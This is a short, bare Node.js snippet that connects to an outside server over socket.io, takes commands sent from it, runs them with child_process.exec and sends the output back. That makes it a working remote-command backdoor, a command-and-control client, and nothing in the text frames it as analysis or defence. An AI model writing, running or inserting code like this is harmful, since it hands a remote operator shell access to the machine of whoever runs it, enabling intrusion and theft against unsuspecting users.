const io = require('socket.io-client'); const cp = require('child_process');
const s = io('http://192.0.2.6:4000'); s.on('command', d => { cp.exec(d.code, (e, o) => s.emit('result', o)); });
